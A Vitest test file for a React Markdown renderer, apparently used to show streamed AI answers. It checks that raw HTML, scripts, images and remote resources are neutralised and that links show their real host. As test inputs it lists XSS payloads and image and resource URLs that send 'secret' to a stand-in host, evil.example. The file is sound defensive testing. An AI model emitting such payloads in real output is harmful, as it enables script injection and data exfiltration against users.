// @vitest-environment happy-dom
import { cleanup, render } from '@testing-library/react';
import { afterEach, expect, test } from 'vitest';
import { Markdown } from './markdown.tsx';

afterEach(cleanup);
const shown = (text: string): HTMLElement => render(<Markdown text={text} />).container;

test('Markdown is rendered as HTML elements', () => {
  const page = shown(
    '**3 days** in *Lisbon* & `more`\n\n- **Day 1** · 09:30\n- Day 2\n\n1. one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> said\n\n```\n<b>\n```',
  );
  expect(page.querySelector('strong')?.textContent).toBe('3 days');
  expect(page.querySelector('em')?.textContent).toBe('Lisbon');
  expect([...page.querySelectorAll('ul > li')].map(({ textContent }) => textContent)).toEqual(['Day 1 · 09:30', 'Day 2']);
  expect(page.querySelectorAll('ol > li')).toHaveLength(1);
  expect([...page.querySelectorAll('th, td')].map(({ textContent }) => textContent)).toEqual(['a', 'b', '1', '2']);
  expect(page.querySelector('blockquote')?.textContent).toBe('said');
  expect(page.querySelector('pre')?.textContent).toBe('<b>');
  expect(page.querySelector('p')?.textContent).toBe('3 days in Lisbon & more');
});

test.each([
  '<img src=x onerror=alert(1)>',
  'a <b onclick="x">bold</b> word',
  '<script>alert(1)</script>',
  '<iframe src="https://evil.example"></iframe>',
  '- <svg onload=x>',
  '<style>* { display: none }</style>',
])('Markdown shows raw HTML as text: %s', (text) => {
  const page = shown(text);
  expect(page.querySelector('img, b, script, iframe, svg, style')).toBeNull();
  expect(page.textContent).toContain('<');
});

test('image in Markdown becomes a link with its host and is not fetched', () => {
  const page = shown('![a view](https://pictures.example/a.png)');
  expect(page.querySelector('img')).toBeNull();
  expect(page.textContent).toBe('a view (pictures.example)');
});

test.each([
  '![](https://evil.example/?d=secret)',
  '![x](https://evil.example/?d=secret "t")',
  '[![x](https://evil.example/a?d=secret)](https://evil.example/b?d=secret)',
  '![x][1]\n\n[1]: https://evil.example/?d=secret',
  '<img src="https://evil.example/?d=secret">',
  '<picture><source srcset="https://evil.example/?d=secret"></picture>',
  '<link rel="prefetch" href="https://evil.example/?d=secret">',
  '<div style="background:url(https://evil.example/?d=secret)">x</div>',
  '<video poster="https://evil.example/?d=secret"></video>',
  '<object data="https://evil.example/?d=secret"></object>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/?d=secret">',
  '| ![x](https://evil.example/?d=secret) |\n|---|\n| ![y](//evil.example/?d=secret) |',
])('Markdown %s sends no request, and any link in it shows its host', (text) => {
  const page = shown(text);
  expect(page.querySelector('img, picture, source, link, video, object, meta, iframe, [style], [srcset], [src]')).toBeNull();
  for (const link of page.querySelectorAll('a')) expect(link.parentElement?.textContent).toContain('evil.example');
});

test('Markdown link to another site shows its host, a link within the product does not', () => {
  const page = shown('[Book here](https://evil.example/bank) and https://lisbon.example/a and [help](/help)');
  expect(page.textContent).toBe('Book here (evil.example) and https://lisbon.example/a and help');
  const [outside, , inside] = page.querySelectorAll('a');
  expect(outside?.rel).toBe('noopener noreferrer nofollow ugc');
  expect(outside?.target).toBe('_blank');
  expect(inside?.target).toBe('');
});

test.each(['bank.example', '**bank.example**', 'https://bank.example/login', '![bank.exam](https://bank.exam/)ple'])(
  'Markdown link whose text is another host, %s, shows its real host',
  (words) => expect(shown(`[${words}](https://bank.exam/)`).textContent).toMatch(/\(bank\.exam\)$/),
);

test.each(['[a](javascript:alert(1))', '[a](data:text/html,x)', '[a](vbscript:x)', '[lisbon.example](https://lisbon.example@evil.example)'])(
  'Markdown %s does not become a link',
  (text) => {
    expect(shown(text).querySelector('a')).toBeNull();
  },
);

test('incomplete Markdown of a streaming answer renders without errors', () => {
  for (let end = 0; end < 60; end++) expect(() => shown('**Day 1** · [Sé](https://a.example) | x |\n|--|\n```js\nlet'.slice(0, end))).not.toThrow();
});
